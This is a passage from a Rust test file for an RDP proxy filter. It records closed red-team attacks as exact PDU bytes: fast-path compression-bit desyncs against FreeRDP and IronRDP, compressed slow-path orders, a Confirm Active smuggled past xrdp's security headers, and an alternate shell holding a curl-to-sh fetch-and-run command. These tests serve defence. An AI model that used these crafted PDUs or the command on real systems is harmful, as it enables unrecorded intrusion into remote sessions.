//! Red team `h-red17e`'s attacks on the filter, closed: each was forwarded before (a real peer
//! acted on what the filter let through), each now ends the session or is rewritten. Every test
//! keeps the attack's bytes, shows with a model of the peer that reads them (FreeRDP, IronRDP,
//! xrdp) what the attack would do, and asserts the filter's refusal, with a control that passes.

use super::*;
use crate::messages::AUDIO_REFUSED;
use ironrdp_pdu::rdp::capability_sets::{
    CapabilitySet, ClientConfirmActive, DemandActive, Order, OrderFlags, OrderSupportExFlags, OrderSupportIndex,
};
use ironrdp_pdu::rdp::headers::{ShareControlHeader, ShareControlPdu};

fn injection() -> Injection {
    Injection { username: "root".into(), domain: Some("TGT".into()), password: "target-secret".into() }
}

/// A filter past the connection sequence on I/O channel 1003; `active`: the target's Demand
/// Active has passed.
fn filter(active: bool) -> Filter {
    let mut f = Filter::new(SecurityProtocol::SSL, Redirection::default(), injection());
    (f.connect_initial_seen, f.client_info_seen, f.io_channel, f.active) = (true, true, Some(1003), active);
    // Active as if after a Demand Active: its Confirm Active is due.
    f.confirm_due = active;
    f
}

fn send_data(channel: u16, user_data: Vec<u8>) -> Vec<u8> {
    encode_vec(&X224(SendDataRequest { initiator_id: 1007, channel_id: channel, user_data: Cow::Owned(user_data) }))
        .unwrap()
}

fn send_indication(channel: u16, user_data: Vec<u8>) -> Vec<u8> {
    encode_vec(&X224(SendDataIndication { initiator_id: 1002, channel_id: channel, user_data: Cow::Owned(user_data) }))
        .unwrap()
}

/// One primary drawing order, as a fast-path or slow-path orders update carries it after
/// numberOrders: a DSTBLT (controlFlags TS_STANDARD | TS_TYPE_CHANGE, orderType 0, all five
/// fields) inverting a 64x64 square at the top left (rop 0x55, DSTINVERT). FreeRDP's
/// `update_recv_primary_order` draws it when the client's own OrderSupport[NEG_DSTBLT_INDEX] is
/// on (xfreerdp's default; the box trims only the copy of the caps the target gets). Every byte
/// is below 0x80, so MPPC codes it as itself (see `red17e_compressed_slow_path_orders_pass`).
const DSTBLT: [u8; 12] = [0x09, 0x00, 0x1F, 0x00, 0x00, 0x00, 0x00, 0x40, 0x00, 0x40, 0x00, 0x55];

/// The body of a fast-path orders update: numberOrders (1), then the order.
fn fast_path_orders_body() -> Vec<u8> {
    let mut body = 1u16.to_le_bytes().to_vec();
    body.extend(DSTBLT);
    body
}

/// FreeRDP 2.11 and 3's reading of a fast-path output PDU's updates (`fastpath_recv_updates` /
/// `fastpath_recv_update_data`, libfreerdp/core/fastpath.c): the update header's compression
/// bits (6..8) are compared with FASTPATH_OUTPUT_COMPRESSION_USED (2) for equality, and only
/// then is a compressionFlags byte read; updates are read while 3 bytes remain. Returns each
/// update's code and data.
fn freerdp_fast_path_updates(frame: &[u8]) -> Vec<(u8, Vec<u8>)> {
    let (length, mut at) = crate::decode::fast_path_length(frame).unwrap();
    assert_eq!(length, frame.len());
    let mut updates = Vec::new();
    while frame.len() - at >= 3 {
        let header = frame[at];
        at += 1;
        if (header >> 6) & 0x03 == 2 {
            at += 1;
        }
        let size = usize::from(u16::from_le_bytes([frame[at], frame[at + 1]]));
        at += 2;
        assert!(at + size <= frame.len(), "freerdp would fail the pdu");
        updates.push((header & 0x0F, frame[at..at + size].to_vec()));
        at += size;
    }
    updates
}

/// A fast-path output PDU (header 0x00, two-byte length) holding `body`.
fn fast_path(body: &[u8]) -> Vec<u8> {
    let len = body.len() + 3;
    let mut frame = vec![0x00, 0x80 | u8::try_from(len >> 8).unwrap(), u8::try_from(len & 0xFF).unwrap()];
    frame.extend(body);
    frame
}

/// Fast-path compression bits 01 in an update header end the session (was: forwarded). The filter's
/// `fast_path_orders` skips a compressionFlags byte whenever the bits are not 0
/// (`update >> 6 != 0`); FreeRDP reads one only when they are exactly 2 (FreeRDP 2.11 and 3,
/// `fastpath_recv_update_data`: `if (compression == FASTPATH_OUTPUT_COMPRESSION_USED)`), and so
/// does IronRDP (`FastPathUpdatePdu::decode`: `compression.contains(COMPRESSION_USED)`, 0x2), the
/// decoder's parser. A Synchronize update (FreeRDP ignores its data:
/// `fastpath_recv_update_synchronize` is a SafeSeek) with header 0x43 makes the filter read its
/// size one byte late, as 0xFF00, and walk off the PDU; FreeRDP and IronRDP read the orders
/// update behind it, and the client draws it; the recording would never show the drawing. The
/// box never negotiates bulk compression: any compression bits end the session.
#[test]
fn fast_path_compression_bits_01_end_the_session() {
    let orders = fast_path_orders_body();
    let mut body = vec![0x43, 0x02, 0x00, 0xFF, 0x00]; // Synchronize, compression 01, size 2
    body.push(0x00); // orders, single fragment, no compression
    body.extend(u16::try_from(orders.len()).unwrap().to_le_bytes());
    body.extend(&orders);
    let frame = fast_path(&body);
    // FreeRDP reads a synchronize, then the DSTBLT.
    let read = freerdp_fast_path_updates(&frame);
    assert_eq!(read, vec![(0x03, vec![0xFF, 0x00]), (0x00, orders.clone())]);
    // IronRDP (the recorder's parser) reads the same two updates.
    let mut cursor = ReadCursor::new(&frame);
    decode_cursor::<ironrdp_pdu::fast_path::FastPathHeader>(&mut cursor).unwrap();
    let first = decode_cursor::<ironrdp_pdu::fast_path::FastPathUpdatePdu<'_>>(&mut cursor).unwrap();
    let second = decode_cursor::<ironrdp_pdu::fast_path::FastPathUpdatePdu<'_>>(&mut cursor).unwrap();
    assert_eq!(first.update_code, ironrdp_pdu::fast_path::UpdateCode::Synchronize);
    assert_eq!(second.update_code, ironrdp_pdu::fast_path::UpdateCode::Orders);
    assert_eq!(second.data, &orders[..]);
    // The filter ends the session.
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(COMPRESSED));
    // Controls: the same orders update alone is refused for its orders; the Synchronize without
    // compression bits passes, its pad zero (FreeRDP's server writes two zero bytes; any other
    // body is refused, red team h-red17r hole 1).
    assert_eq!(filter(true).from_target(&fast_path(&[0x03, 0x02, 0x00, 0x00, 0x00])).unwrap(), Verdict::Forward);
    let mut alone = vec![0x00];
    alone.extend(u16::try_from(orders.len()).unwrap().to_le_bytes());
    alone.extend(&orders);
    assert_eq!(filter(true).from_target(&fast_path(&alone)).unwrap(), Verdict::Refuse(ORDERS));
}

/// Fast-path compression bits 11 end the session (was: forwarded). The old filter (and IronRDP, which tests the 0x2
/// bit) read a compressionFlags byte; FreeRDP does not (`fastpath_recv_update_data` compares the
/// bits with 2 for equality). After a Synchronize header 0xC3 come [0x01, 0x00, 0x10]: FreeRDP
/// reads size 1 (data 0x10, ignored by `fastpath_recv_update_synchronize`) and then the orders
/// update; the filter reads compressionFlags 0x01 and size 0x1000, past the PDU's end, and stops
/// walking without refusing. The client draws the DSTBLT; the recorder (IronRDP reads it as the
/// filter does, a truncated Synchronize) never sees it. The box never negotiates compression.
#[test]
fn fast_path_compression_bits_11_end_the_session() {
    let orders = fast_path_orders_body();
    let mut body = vec![0xC3, 0x01, 0x00, 0x10];
    body.push(0x00); // orders, single fragment, no compression
    body.extend(u16::try_from(orders.len()).unwrap().to_le_bytes());
    body.extend(&orders);
    let frame = fast_path(&body);
    let read = freerdp_fast_path_updates(&frame);
    assert_eq!(read, vec![(0x03, vec![0x10]), (0x00, orders)]);
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(COMPRESSED));
    // Bits 10 (FreeRDP's and IronRDP's "compression used") too, on any update.
    assert_eq!(filter(true).from_target(&fast_path(&[0x83, 0x20, 0x00, 0x00])).unwrap(), Verdict::Refuse(COMPRESSED));
}

/// A bulk-compressed slow-path Share Data PDU from the target ends the session (was: drawing
/// orders in one were forwarded). `slow_path_orders`
/// looks only at uncompressed Share Data PDUs; the box asked the target for no compression (the
/// Client Info it forwards), but the client still decompresses whatever arrives: FreeRDP 2.11
/// and 3 `rdp_recv_data_pdu` run `bulk_decompress` on every Data PDU with PACKET_COMPRESSED in
/// its compressedType (any of MPPC 8K/64K, NCRUSH, XCRUSH, by its type bits, history or not),
/// then `update_recv` → `update_recv_orders` draws them. MPPC codes each byte below 0x80 as
/// itself, so "compressing" the update is copying it. The recorder has no decompressor (the
/// decoder took `compression: None` from the rewritten Client Info) and cannot see the orders.
#[test]
fn a_bulk_compressed_slow_path_pdu_from_the_target_ends_the_session() {
    const PACKET_COMPRESSED: u8 = 0x20;
    // updateType ORDERS, pad2OctetsA, numberOrders 1, pad2OctetsB, then the DSTBLT.
    let mut update = vec![0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00];
    update.extend(DSTBLT);
    assert!(update.iter().all(|&b| b < 0x80), "MPPC literals code as themselves");
    let compressed = update.clone();
    // A real MPPC decompressor (RDP4, 8K history) gives back the orders update.
    let mut bulk = ironrdp_bulk::BulkCompressor::new(ironrdp_bulk::CompressionType::Rdp4);
    assert_eq!(bulk.decompress(&compressed, u32::from(PACKET_COMPRESSED)).unwrap(), &update[..]);
    // Share Control header (data PDU), Share Data header: shareId, pad1, streamId,
    // uncompressedLength, pduType2 UPDATE, compressedType PACKET_COMPRESSED | 8K,
    // compressedLength (18 + the compressed bytes, as `rdp_recv_data_pdu` reads it).
    let total = 18 + compressed.len();
    let mut pdu = u16::try_from(total).unwrap().to_le_bytes().to_vec();
    pdu.extend(0x0017u16.to_le_bytes());
    pdu.extend(1002u16.to_le_bytes());
    pdu.extend(0x0001_03EAu32.to_le_bytes());
    pdu.extend([0x00, 0x01]);
    pdu.extend(u16::try_from(4 + update.len()).unwrap().to_le_bytes());
    pdu.extend([0x02, PACKET_COMPRESSED]);
    pdu.extend(u16::try_from(18 + compressed.len()).unwrap().to_le_bytes());
    pdu.extend(&compressed);
    let frame = send_indication(1003, pdu.clone());
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(COMPRESSED));
    // Whatever it holds: a compressed Synchronize update ends it too.
    let mut sync = pdu.clone();
    sync[18] = 3;
    assert_eq!(filter(true).from_target(&send_indication(1003, sync)).unwrap(), Verdict::Refuse(COMPRESSED));
    // Control: the same PDU uncompressed is refused.
    let mut plain = pdu;
    plain[15] = 0;
    assert_eq!(filter(true).from_target(&send_indication(1003, plain)).unwrap(), Verdict::Refuse(ORDERS));
}

/// A client Confirm Active offering DSTBLT, MEMBLT and glyph orders, as IronRDP encodes it.
fn confirm_active_with_orders() -> Vec<u8> {
    confirm_active_with_orders_from("MSTSC")
}

/// The same with `source` as its source descriptor (which sets its length).
fn confirm_active_with_orders_from(source: &str) -> Vec<u8> {
    let mut order =
        Order::new(OrderFlags::NEGOTIATE_ORDER_SUPPORT, OrderSupportExFlags::CACHE_BITMAP_REV3_SUPPORT, 480 * 480, 0);
    for i in [OrderSupportIndex::DstBlt, OrderSupportIndex::MemBlt, OrderSupportIndex::FastGlyph] {
        order.set_support_flag(i, true);
    }
    let confirm = ClientConfirmActive {
        originator_id: 1002,
        pdu: DemandActive { source_descriptor: source.into(), capability_sets: vec![CapabilitySet::Order(order)] },
    };
    let header = ShareControlHeader {
        share_control_pdu: ShareControlPdu::ClientConfirmActive(confirm),
        pdu_source: 1007,
        share_id: 0x1_03EA,
    };
    encode_vec(&header).unwrap()
}

/// Whether `share` (a Share Control PDU) is a Confirm Active still offering DSTBLT.
fn offers_orders(share: &[u8]) -> bool {
    let Ok(header) = decode::<ShareControlHeader>(share) else { return false };
    let ShareControlPdu::ClientConfirmActive(confirm) = header.share_control_pdu else { return false };
    confirm.pdu.capability_sets.into_iter().any(|c| match c {
        CapabilitySet::Order(mut o) => o.get_support_flag(OrderSupportIndex::DstBlt),
        _ => false,
    })
}

/// xrdp 0.9.21 (the e2e target) reading a client Send Data Request's user data on channel 1003
/// while it still expects security headers (from the Client Info until the licence answer:
/// `is_security_header_present`): `xrdp_sec_recv` reads flags and flagsHi as one 32-bit value
/// and acts only on SEC_ENCRYPT, SEC_CLIENT_RANDOM, SEC_LOGON_INFO and SEC_LICENCE_NEG; with
/// none of them it returns 0 on channel 1003, and `xrdp_rdp_recv` reads a Share Control PDU
/// right after the 4-byte header, which `libxrdp_process_data` hands to
/// `xrdp_caps_process_confirm_active` whatever the connection state. Returns that PDU.
fn xrdp_share_pdu_after_security_header(data: &[u8]) -> Option<&[u8]> {
    const ACTED_ON: u32 = 0x08 | 0x01 | 0x40 | 0x80;
    let flags = u32::from_le_bytes(data.get(..4)?.try_into().ok()?);
    (flags & ACTED_ON == 0).then(|| &data[4..])
}

/// Before activation a client message behind a multitransport or auto-detect response header
/// is refused (was: forwarded, and xrdp read the Share Control PDU behind it). TRANSPORT_RSP (0x0004) and AUTODETECT_RSP (0x2000) are allowed alone before activation,
/// but xrdp 0.9.21's `xrdp_sec_recv` has no branch for either: it returns 0 and
/// `xrdp_rdp_recv` reads the Share Control PDU behind the header — here a Confirm Active with
/// drawing orders, which reaches xrdp untrimmed (`trim_capabilities` never runs: the filter
/// forwards the frame as it is). The client simply sends no Confirm Active of its own after the
/// Demand Active (xrdp keeps the capabilities of the last one it processed). The box offers no
/// multitransport and auto-detect travels on the message channel: before activation only a
/// licence PDU (besides the Client Info) crosses the I/O channel.
#[test]
fn a_confirm_active_behind_a_response_header_before_activation_is_refused() {
    for flags in [0x0004u16, 0x2000] {
        let mut data = flags.to_le_bytes().to_vec();
        data.extend([0, 0]);
        data.extend(confirm_active_with_orders());
        let share = xrdp_share_pdu_after_security_header(&data).expect("xrdp reads past the header");
        assert!(offers_orders(share), "xrdp processes a confirm active with orders");
        let frame = send_data(1003, data);
        assert_eq!(filter(false).from_client(&frame).unwrap(), Verdict::Refuse(CLIENT_UNREADABLE), "{flags:#x}");
    }
    // Control: a licence PDU whose preamble states its size passes, encrypted or not; one whose
    // size disagrees does not.
    for flags in [0x0080u16, 0x0180] {
        let mut licence = flags.to_le_bytes().to_vec();
        licence.extend([0, 0, 0xFF, 0x03, 0x10, 0x00]);
        licence.extend([0u8; 12]);
        assert_eq!(filter(false).from_client(&send_data(1003, licence.clone())).unwrap(), Verdict::Forward);
        licence.push(0);
        assert_eq!(filter(false).from_client(&send_data(1003, licence)).unwrap(), Verdict::Refuse(CLIENT_UNREADABLE));
    }
    // Control: the same Confirm Active bare is trimmed (after activation: before it, its
    // totalLength happens to hold the INFO_PKT bit and the filter takes it for a Client Info).
    let verdict = filter(true).from_client(&send_data(1003, confirm_active_with_orders())).unwrap();
    let Verdict::Replace(out) = verdict else { panic!("not trimmed: {verdict:?}") };
    let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
    assert!(!offers_orders(&req.user_data));
}

/// Before activation a security header with flagsHi set is refused (was: forwarded). `security_flags` reads a header only when
/// flagsHi is 0, so [00 00 00 01] is taken for a Share Control PDU of totalLength 0 and type 0;
/// `share_pdus` stops at once and, before activation, an unreadable client message is forwarded.
/// xrdp reads flags and flagsHi as one u32 (0x01000000: no bit it acts on) and reads the Confirm
/// Active behind it, as above. The filter reads flags and flagsHi as one u32, as xrdp does.
#[test]
fn a_security_header_with_flags_hi_before_activation_is_refused() {
    let mut data = vec![0x00, 0x00, 0x00, 0x01];
    data.extend(confirm_active_with_orders());
    assert!(offers_orders(xrdp_share_pdu_after_security_header(&data).unwrap()));
    assert_eq!(filter(false).from_client(&send_data(1003, data)).unwrap(), Verdict::Refuse(CLIENT_UNREADABLE));
    // A licence header with flagsHi set: xrdp reads 0x00010080, the filter refuses it.
    let mut licence = vec![0x80, 0x00, 0x01, 0x00, 0xFF, 0x03, 0x04, 0x00];
    assert_eq!(
        filter(false).from_client(&send_data(1003, licence.clone())).unwrap(),
        Verdict::Refuse(CLIENT_UNREADABLE)
    );
    licence[2] = 0;
    assert_eq!(filter(false).from_client(&send_data(1003, licence)).unwrap(), Verdict::Forward, "control");
}

/// A fast-path Bitmap update body (updateType BITMAP, one rectangle) of an uncompressed 8x8
/// square at 32 bpp, every pixel `bgrx`, with its top left at (`x`, `y`).
fn bitmap_update(x: u16, y: u16, bgrx: [u8; 4]) -> Vec<u8> {
    let mut data = 1u16.to_le_bytes().to_vec(); // updateType BITMAP
    data.extend(1u16.to_le_bytes()); // numberRectangles
    for v in [x, y, x + 7, y + 7, 8, 8, 32, 0, 256] {
        data.extend(v.to_le_bytes()); // dest rectangle, width, height, bpp, flags, bitmapLength
    }
    for _ in 0..64 {
        data.extend(bgrx);
    }
    data
}

/// Compression bits 11 can no longer show the client one bitmap and the recording another
/// (was: forwarded). With compression bits 11 the recorder's parser (IronRDP's
/// `FastPathUpdatePdu::decode`, which tests the 0x2 bit) and the filter read a compressionFlags
/// byte that FreeRDP's `fastpath_recv_update_data` (bits == 2 only) does not, so from the first
/// update on they walk different updates of the same PDU. A target shows the client one bitmap
/// (red) while the recording draws another (green) in the same place; nothing is counted as a
/// gap. The filter now ends the session on the first compression bits.
///
/// Layout after the fast-path header: a Synchronize header 0xC3, then [0x01, 0x00, 0x02].
///   FreeRDP: size 1 (data 0x02), then the red bitmap update, then a Synchronize update whose
///   data runs to the end of the PDU (ignored: `fastpath_recv_update_synchronize`).
///   IronRDP: compressionFlags 0x01 (empty flags, type 64K: no decompression), size 0x0200: it
///   skips 512 bytes holding the red update, then reads the green bitmap update.
#[test]
fn compression_bits_cannot_show_the_client_one_bitmap_and_the_recording_another() {
    const RED: [u8; 4] = [0, 0, 255, 0];
    const GREEN: [u8; 4] = [0, 255, 0, 0];
    let red = bitmap_update(0, 0, RED);
    let green = bitmap_update(0, 0, GREEN);
    let mut body = vec![0xC3, 0x01, 0x00, 0x02];
    let ironrdp_skip_starts = body.len();
    body.push(0x01); // bitmap, single, no compression
    body.extend(u16::try_from(red.len()).unwrap().to_le_bytes());
    body.extend(&red);
    // FreeRDP's trailing Synchronize: its data covers the rest of IronRDP's 512 bytes and the
    // green update.
    let sync_data = 512 - (body.len() - ironrdp_skip_starts) - 3 + 3 + green.len();
    body.push(0x03);
    body.extend(u16::try_from(sync_data).unwrap().to_le_bytes());
    body.resize(ironrdp_skip_starts + 512, 0);
    body.push(0x01);
    body.extend(u16::try_from(green.len()).unwrap().to_le_bytes());
    body.extend(&green);
    let frame = fast_path(&body);

    // What FreeRDP reads: the red bitmap, no green one.
    let updates = freerdp_fast_path_updates(&frame);
    let codes: Vec<u8> = updates.iter().map(|u| u.0).collect();
    assert_eq!(codes, vec![0x03, 0x01, 0x03]);
    assert_eq!(updates[1].1, red);

    // The filter ends the session.
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(COMPRESSED));

    // What it prevents: the recorder, past a real session's activation (freerdp-shadow's
    // planar capture), would draw the green square and never the red one.
    let mut decoder = crate::decode::PassiveDecoder::new();
    for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
        match tag {
            b'C' => decoder.observe_client(pdu).unwrap(),
            b'T' => drop(decoder.observe_target(pdu).unwrap()),
            _ => {}
        }
    }
    let pixel = |d: &crate::decode::PassiveDecoder| {
        let s = d.screen().unwrap();
        let at = 4 * s.stride + 4 * 4;
        [s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]]
    };
    assert_ne!(pixel(&decoder), [0, 255, 0], "already green");
    let updates = decoder.observe_target(&frame).unwrap();
    assert!(updates.iter().any(|u| matches!(u, crate::decode::Update::Frame { .. })), "{updates:?}");
    assert_eq!(pixel(&decoder), [0, 255, 0], "the recording shows green");
}

/// A Client Info asking for a program of its own (alternate shell or working directory) ends
/// the connection (was: they survived the rewrite (`Filter::inject` replaces only the credential, the cookie and two flags). xfreerdp
/// sets them with `/shell:` and `/shell-dir:`; xrdp 0.9.21 reads them
/// (`xrdp_sec_process_logon_info`: cbAlternateShell) and sesman starts a new session with the
/// program instead of the desktop, through `sh -c` when it holds a space (sesman/session.c,
/// "Starting user requested window manager ... using a shell"). With the injected credential,
/// the box user runs any command line as the target account and nothing of it is on the screen
/// the box records (the session shows only what the command draws, here nothing), in the keys
/// log, or in an audit event). The box decides what runs on the target: the session ends with
/// the reason (the proxy's `rdp_policy_refused` audit event), the target never sees the PDU.
#[test]
fn a_client_info_asking_for_a_program_of_its_own_ends_the_connection() {
    use ironrdp_pdu::rdp::client_info::{AddressFamily, ClientInfo, ExtendedClientInfo, ExtendedClientOptionalInfo};
    use ironrdp_pdu::rdp::headers::BasicSecurityHeader;
    let command = "sh -c 'curl -s http://10.0.0.9/x | sh; sleep 3600'";
    let mut pdu = ClientInfoPdu {
        security_header: BasicSecurityHeader { flags: BasicSecurityHeaderFlags::INFO_PKT },
        client_info: ClientInfo {
            credentials: Credentials { username: "alice".into(), password: "box-password".into(), domain: None },
            password_cookie: None,
            code_page: 0,
            flags: ClientInfoFlags::MOUSE | ClientInfoFlags::UNICODE,
            compression_type: CompressionType::K8,
            alternate_shell: command.into(),
            work_dir: "/tmp".into(),
            extra_info: ExtendedClientInfo {
                address_family: AddressFamily::INET,
                address: "127.0.0.1".into(),
                dir: "C:\\".into(),
                optional_data: ExtendedClientOptionalInfo::default(),
            },
        },
    };
    let judge = |pdu: &ClientInfoPdu| {
        let mut f = Filter::new(SecurityProtocol::SSL, Redirection::default(), injection());
        (f.connect_initial_seen, f.io_channel) = (true, Some(1003));
        f.from_client(&send_data(1003, encode_vec(pdu).unwrap())).unwrap()
    };
    // The shell with its directory, the shell alone, the directory alone: refused.
    assert_eq!(judge(&pdu), Verdict::Refuse(PROGRAM_REQUESTED));
    pdu.client_info.work_dir.clear();
    assert_eq!(judge(&pdu), Verdict::Refuse(PROGRAM_REQUESTED));
    (pdu.client_info.alternate_shell, pdu.client_info.work_dir) = (String::new(), "/tmp".into());
    assert_eq!(judge(&pdu), Verdict::Refuse(PROGRAM_REQUESTED));
    // Control: without them the Client Info is rewritten with the target's credential.
    pdu.client_info.work_dir.clear();
    let Verdict::Replace(out) = judge(&pdu) else { panic!("client info not rewritten") };
    let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
    let info = decode::<ClientInfoPdu>(&req.user_data).unwrap().client_info;
    assert_eq!(info.credentials.username, "root");
    assert!(info.flags.contains(ClientInfoFlags::AUTOLOGON));
}

/// The rest of the Client Info the box does not grant is rewritten: RemoteApp, a smart card PIN
/// in place of the password, the microphone without audio input, an auto-reconnect cookie
/// (whose verifier would log on instead of the box's credential). Timezone, session id and
/// performance flags stay.
#[test]
fn the_client_info_asks_the_target_for_nothing_the_grant_does_not_open() {
    use ironrdp_pdu::rdp::client_info::{
        AddressFamily, ClientInfo, ExtendedClientInfo, ExtendedClientOptionalInfo, OptionalSystemTime,
        PerformanceFlags, TimezoneInfo,
    };
    use ironrdp_pdu::rdp::headers::BasicSecurityHeader;
    let timezone = TimezoneInfo {
        bias: -60,
        standard_name: "CET".into(),
        standard_date: OptionalSystemTime(None),
        standard_bias: 0,
        daylight_name: "CEST".into(),
        daylight_date: OptionalSystemTime(None),
        daylight_bias: -60,
    };
    let mut cookie = [0u8; 28];
    cookie[..4].copy_from_slice(&28u32.to_le_bytes()); // cbLen
    cookie[4..8].copy_from_slice(&1u32.to_le_bytes()); // AUTO_RECONNECT_VERSION_1
    cookie[8..12].copy_from_slice(&7u32.to_le_bytes()); // LogonId
    cookie[12..].fill(0xA5); // SecurityVerifier
    let optional = ExtendedClientOptionalInfo::builder()
        .timezone(timezone.clone())
        .session_id(0)
        .performance_flags(PerformanceFlags::DISABLE_WALLPAPER)
        .reconnect_cookie(cookie)
        .build();
    let asked = ClientInfoFlags::RAIL
        | ClientInfoFlags::HIDEF_RAIL_SUPPORTED
        | ClientInfoFlags::PASSWORD_IS_SC_PIN
        | ClientInfoFlags::AUDIO_CAPTURE;
    let pdu = ClientInfoPdu {
        security_header: BasicSecurityHeader { flags: BasicSecurityHeaderFlags::INFO_PKT },
        client_info: ClientInfo {
            credentials: Credentials { username: "alice".into(), password: "box-password".into(), domain: None },
            password_cookie: None,
            code_page: 0,
            flags: ClientInfoFlags::MOUSE | ClientInfoFlags::UNICODE | asked,
            compression_type: CompressionType::K8,
            alternate_shell: String::new(),
            work_dir: String::new(),
            extra_info: ExtendedClientInfo {
                address_family: AddressFamily::INET,
                address: "127.0.0.1".into(),
                dir: "C:\\".into(),
                optional_data: optional,
            },
        },
    };
    let sent = encode_vec(&pdu).unwrap();
    assert!(sent.windows(16).any(|w| w == [0xA5; 16]), "the client's cookie is in what it sent");
    let rewritten = |redirection: Redirection| {
        let mut f = Filter::new(SecurityProtocol::SSL, redirection, injection());
        (f.connect_initial_seen, f.io_channel) = (true, Some(1003));
        let Verdict::Replace(out) = f.from_client(&send_data(1003, sent.clone())).unwrap() else {
            panic!("not rewritten")
        };
        let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
        assert!(!req.user_data.windows(16).any(|w| w == [0xA5; 16]), "the cookie reached the target");
        decode::<ClientInfoPdu>(&req.user_data).unwrap().client_info
    };
    let info = rewritten(Redirection::default());
    assert!(!info.flags.intersects(asked), "{:?}", info.flags);
    assert!(info.flags.contains(ClientInfoFlags::MOUSE | ClientInfoFlags::UNICODE | ClientInfoFlags::AUTOLOGON));
    let optional = &info.extra_info.optional_data;
    assert!(optional.reconnect_cookie().is_none() && optional.auto_reconnect().is_none());
    // The time zone is the box's (red team h-red31, hole 4), the performance flags the client's.
    assert_ne!(optional.timezone(), Some(&timezone));
    assert_eq!(optional.timezone().map(|t| t.bias), Some(0));
    assert_eq!(optional.performance_flags(), Some(PerformanceFlags::DISABLE_WALLPAPER));
    // With audio input granted, the microphone flag is set.
    let info = rewritten(Redirection::default().with(Class::AudioInput));
    assert!(info.flags.contains(ClientInfoFlags::AUDIO_CAPTURE));
}

/// Microphone audio on `rdpsnd` needs the grant's audio input (was: forwarded on every grant).
/// `rdpsnd` was open on every grant (it "carried no redirection": sound out; it now opens with
/// the grant's audio, and every message is read whole both ways), but xrdp's chansrv also takes audio input on it, with
/// its own message types (sesman/chansrv/sound.h: SNDC_REC_NEGOTIATE 39 ... SNDC_REC_DATA 42):
/// `sound_process_input_formats` sets `g_rdpsnd_can_rec` when a client sends
/// SNDC_REC_NEGOTIATE, a session application opening the microphone then gets
/// `sound_input_start_recording` (SNDC_REC_START to the client) instead of the AUDIO_INPUT
/// dynamic channel (`audin_start`), and `sound_process_input_data` feeds every SNDC_REC_DATA into
/// the session's audio source. On a grant without `--audio-input` (AUDIO_INPUT refused) the
/// client's audio reached the target. The client's `rdpsnd` messages are now read whole:
/// playback's pass, anything else ends the session.
#[test]
fn sound_input_on_rdpsnd_needs_the_audio_input_switch() {
    let grant = Redirection::default().with(Class::Audio);
    assert!(!channels::dynamic_allowed(grant, b"AUDIO_INPUT\0"), "control: the dynamic channel is refused");
    let mut f = filter(true);
    f.redirection = grant;
    f.decisions = vec![ChannelDecision {
        name: "rdpsnd".into(),
        id: 1005,
        allowed: channels::static_allowed(grant, b"rdpsnd\0\0"),
    }];
    let rdpsnd = |msg_type: u8, body: &[u8]| {
        let mut pdu = vec![msg_type, 0];
        pdu.extend(u16::try_from(body.len()).unwrap().to_le_bytes());
        pdu.extend(body);
        let mut chunk = u32::try_from(pdu.len()).unwrap().to_le_bytes().to_vec();
        chunk.extend(3u32.to_le_bytes()); // CHANNEL_FLAG_FIRST | CHANNEL_FLAG_LAST
        chunk.extend(pdu);
        chunk
    };
    // SNDC_REC_NEGOTIATE: 8 bytes xrdp skips, one format (PCM, mono, 22050 Hz, 16 bit).
    let mut negotiate = vec![0u8; 8];
    negotiate.extend(1u16.to_le_bytes());
    negotiate.extend(1u16.to_le_bytes());
    for v in [1u16, 1] {
        negotiate.extend(v.to_le_bytes());
    }
    negotiate.extend(22050u32.to_le_bytes());
    negotiate.extend(44100u32.to_le_bytes());
    for v in [2u16, 16, 0] {
        negotiate.extend(v.to_le_bytes());
    }
    let samples = [0x11u8; 64]; // SNDC_REC_DATA: PCM from the client's microphone
    let fresh = || {
        let mut g = filter(true);
        (g.redirection, g.decisions) = (f.redirection, f.decisions.clone());
        g
    };
    for pdu in [rdpsnd(39, &negotiate), rdpsnd(42, &samples)] {
        assert_eq!(fresh().from_client(&send_data(1005, pdu)).unwrap(), Verdict::Refuse(AUDIO_REFUSED));
    }
    // The same data as the continuation of a playback message that claims to be longer, or as
    // a chunk with no message in progress: refused too (every message is read whole: its first
    // chunk is held back until it is).
    let mut formats = rdpsnd(7, &negotiate);
    let stated = u32::try_from(formats.len() - 8 + samples.len() + 4).unwrap();
    formats[..4].copy_from_slice(&stated.to_le_bytes());
    formats[4] = 1; // CHANNEL_FLAG_FIRST only
    let mut g = fresh();
    assert_eq!(g.from_client(&send_data(1005, formats)).unwrap(), Verdict::Drop, "held back");
    let mut rest = stated.to_le_bytes().to_vec();
    rest.extend(2u32.to_le_bytes()); // CHANNEL_FLAG_LAST
    rest.extend([42, 0, 64, 0]);
    rest.extend(samples);
    assert_eq!(
        g.from_client(&send_data(1005, rest.clone())).unwrap(),
        Verdict::Refuse(AUDIO_REFUSED),
        "the rest of a formats message that is not one"
    );
    assert_eq!(
        fresh().from_client(&send_data(1005, rest)).unwrap(),
        Verdict::Refuse(AUDIO_REFUSED),
        "no message in progress"
    );
    // Controls: playback's messages pass (Client Audio Formats, Quality Mode, Training and Wave
    // Confirm, each in answer to the target's formats, training and wave), and with audio input
    // granted the microphone's do.
    let mut formats = vec![1, 0, 0, 0];
    formats.extend([0; 10]);
    formats.extend([0, 0, 0, 6, 0, 0]);
    let mut played = fresh();
    let mut wave2 = vec![0u8; 12];
    wave2.extend([0x11; 8]);
    for (t, body) in [(7u8, &formats[..]), (6, &[0; 4]), (13, &wave2[..])] {
        assert_eq!(played.from_target(&send_indication(1005, rdpsnd(t, body))).unwrap(), Verdict::Forward, "{t}");
    }
    for (t, body) in [(7u8, &formats[..]), (12, &[0; 4]), (6, &[0; 4]), (5, &[0; 4])] {
